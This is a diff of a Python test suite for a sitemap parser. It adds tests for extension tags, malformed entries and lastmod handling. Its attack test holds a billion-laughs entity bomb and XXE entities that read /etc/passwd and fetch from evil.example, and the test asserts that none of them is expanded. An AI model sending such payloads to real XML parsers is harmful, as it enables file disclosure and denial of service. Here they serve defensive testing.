@@ -120,15 +120,20 @@ class TestGoodFiles:
         text = (
             f"<urlset {NS} xmlns:image='i' xmlns:xhtml='h'><url><loc>http://a.example/1</loc>"
             "<image:image><image:loc>http://a.example/i.png</image:loc><image:title>A &amp; B</image:title>"
-            "</image:image>"
-            "<xhtml:link rel='alternate' hreflang='de' href='/de?a=1&amp;b=2'/></url></urlset>"
+            "</image:image><mobile:mobile/>"
+            "<xhtml:link rel='alternate' hreflang='de' href='/de?a=1&amp;b=2'/><PageMap xmlns='p'>"
+            "<DataObject type='t' id='1'><Attribute name='n'>v</Attribute></DataObject></PageMap></url></urlset>"
         )
         (entry,) = read(text).entries
         assert entry.alternates == ("http://a.example/de?a=1&b=2",) and not entry.extras
         (entry,) = parse_sitemap(text.encode(), URL, extensions=True).entries
         assert [(extra.kind, [field[:2] for field in extra.fields]) for extra in entry.extras] == [
-            ("image", [("loc", "http://a.example/i.png"), ("title", "A & B")])
+            ("image", [("loc", "http://a.example/i.png"), ("title", "A & B")]),
+            ("mobile", []),
+            ("links", [("link", "http://a.example/de?a=1&b=2")]),
+            ("pagemap", [("dataobject", ""), ("attribute", "v")]),
         ]
+        assert entry.extras[3].fields[0][2] == {"type": "t", "id": "1"}
 
 
 class TestBytes:
@@ -199,6 +204,12 @@ class TestBadFiles:
             "<urlset><url><loc>http://a.example/1</loc></url></wrong></urlset>",
             "<urlset><url><loc>http://a.example/1</loc></url><url><loc>mailto:a@a.example</loc></url><url><loc/></url></urlset>",
             "<urlset><url><loc>http://a.example/1</loc></url><url><loc>javascript:x</loc></url><url></url></urlset>",
+            "<urlset><url><loc>http://a.example/1</lo",
+            "<urlset><url>http://a.example/1</url><url> no URL </url></urlset>",
+            "<urlset><url><![CDATA[ http://a.example/1 ]]></url></urlset>",
+            "<urlset><url><loc>a.example/1</loc></url></urlset>",
+            "<urlset><url><loc>A.example:80/1</loc></url></urlset>",
+            "a.example/1\nb.example/2\nno URL\na.examples\na.example:80@b.example/",
             "<urlset><url><loc>http://a.example/1#x</loc><image><loc>http://a.example/i</loc></image></url></urlset>",
         ],
     )
@@ -210,6 +221,17 @@ class TestBadFiles:
         assert urls(text) == ["http://a.example/?a=1&b=2&copy;=3", "http://a.example/%3Cb", "http://a.example/"]
         text = "<urlset><url><loc>http://a.example/1</loc><url><loc>http://a.example/2</loc></url></urlset>"
         assert urls(text) == ["http://a.example/1", "http://a.example/2"]
+
+    def test_each_loc_has_what_stands_after_it(self) -> None:
+        """Where an entry's tags were forgotten, the date of one URL is none of the next."""
+        text = "<loc>/1</loc><lastmod>2004</lastmod><loc>/2</loc><loc>/3</loc><lastmod>2005</lastmod>"
+        found = read(f"<sitemapindex><sitemap>{text}</sitemap></sitemapindex>")
+        assert [(child.loc, child.lastmod_text) for child in found.children] == [
+            *(("/1", "2004"), ("/2", None), ("/3", "2005"))
+        ]
+        assert [entry.lastmod_text for entry in read(f"<urlset><url>{text}</url></urlset>").entries] == [
+            *("2004", None, "2005")
+        ]
 
     def test_invalid_bytes_cost_one_entry_at_most(self) -> None:
         body = urlset("http://a.example/1", "http://a.example/\u00e9", "http://a.example/3").encode("latin-1")
@@ -243,10 +265,12 @@ LAUGHS = b'<!DOCTYPE l [<!ENTITY a0 "ha">' + b"".join(
 
 class TestAttacks:
     def test_entities_are_not_expanded(self) -> None:
-        """Billion laughs and XXE: nothing is expanded, nothing read, the other entries are kept."""
+        """Billion laughs and XXE: nothing is expanded, nothing read; an entity stands for nothing."""
         xxe = b'<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/d"> %p; ]>'
-        locs = ("http://a.example/1", "http://a.example/&a29;", "http://a.example/&f;", "http://a.example/?a&amp;b")
-        assert urls(LAUGHS + xxe + urlset(*locs).encode()) == ["http://a.example/1", "http://a.example/?a&b"]
+        locs = ("http://a.example/1", "http://a.example/2&a29;", "&f;", "http://a.example/?a&amp;b")
+        assert urls(LAUGHS + xxe + urlset(*locs).encode()) == [
+            *("http://a.example/1", "http://a.example/2", "http://a.example/?a&b")
+        ]
 
     def test_external_dtd_and_includes_are_nothing(self) -> None:
         text = (
